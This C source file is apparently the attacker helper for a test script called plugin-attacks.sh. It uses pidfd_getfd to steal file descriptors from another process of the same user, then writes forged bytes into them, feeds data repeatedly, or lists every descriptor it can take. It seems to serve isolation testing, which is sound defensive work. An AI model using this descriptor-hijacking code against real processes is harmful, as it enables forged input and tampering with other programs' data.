/* The attacker's tool for plugin-attacks.sh: as an ordinary user, take a
 * file descriptor out of another process of the same user with
 * pidfd_getfd(2), then
 *   attack-getfd PID FD write FILE   write FILE's bytes into it (forge)
 *   attack-getfd PID FD feed FIRST NEXT MS
 *                                    write FIRST's bytes, say "fed" on
 *                                    stdout, then NEXT's every MS ms until
 *                                    a write fails (the reader is gone)
 *   attack-getfd PID FD list         print where every fd of PID points
 *                                    that this user can take (one a line)
 * Exit status 3 when the fd cannot be taken. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int getfd(int pidfd, int fd)
{
    return (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
}

/* FILE's bytes into fd: 0, or -1 when a write fails. */
static int put(int fd, const char *file)
{
    int in = open(file, O_RDONLY);
    if (in < 0) {
        perror(file);
        return -1;
    }
    char buf[65536];
    ssize_t n;
    int rc = 0;
    while (rc == 0 && (n = read(in, buf, sizeof(buf))) > 0)
        if (write(fd, buf, (size_t)n) != n) {
            perror("write");
            rc = -1;
        }
    close(in);
    return rc;
}

int main(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    int pid = atoi(argv[1]);
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) {
        perror("pidfd_open");
        return 3;
    }
    if (!strcmp(argv[3], "list")) {
        char p[64], link[512];
        snprintf(p, sizeof(p), "/proc/%d/fd", pid);
        DIR *d = opendir(p);
        if (!d) {
            perror(p);
            return 3;
        }
        struct dirent *e;
        int taken = 0;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.')
                continue;
            int fd = getfd(pidfd, atoi(e->d_name));
            if (fd < 0)
                continue;
            snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
            ssize_t n = readlink(p, link, sizeof(link) - 1);
            link[n > 0 ? n : 0] = '\0';
            printf("%s %s\n", e->d_name, link);
            close(fd);
            taken++;
        }
        closedir(d);
        return taken ? 0 : 3;
    }
    int fd = getfd(pidfd, atoi(argv[2]));
    if (fd < 0) {
        perror("pidfd_getfd");
        return 3;
    }
    if (!strcmp(argv[3], "write") && argc == 5)
        return put(fd, argv[4]) < 0 ? 1 : 0;
    if (!strcmp(argv[3], "feed") && argc == 7) {
        signal(SIGPIPE, SIG_IGN);
        if (put(fd, argv[4]) < 0)
            return 1;
        printf("fed\n");
        fflush(stdout);
        struct timespec every = {.tv_sec = atoi(argv[6]) / 1000, .tv_nsec = (atoi(argv[6]) % 1000) * 1000000L};
        while (put(fd, argv[5]) == 0)
            nanosleep(&every, NULL); /* the attack's pace, not a wait for anything */
        return 0;
    }
    return 2;
}
